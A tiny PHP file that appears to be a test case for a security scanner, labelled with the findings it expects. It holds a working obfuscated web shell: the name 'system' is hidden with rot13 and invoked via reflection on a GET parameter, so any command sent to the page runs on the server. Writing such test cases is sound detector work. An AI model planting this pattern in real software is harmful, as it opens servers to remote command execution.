<?php
// want: php_request_command_exec php_hidden_function_name
// fold: system
$r = new ReflectionFunction(str_rot13('flfgrz'));
$r->invoke($_GET['c']);
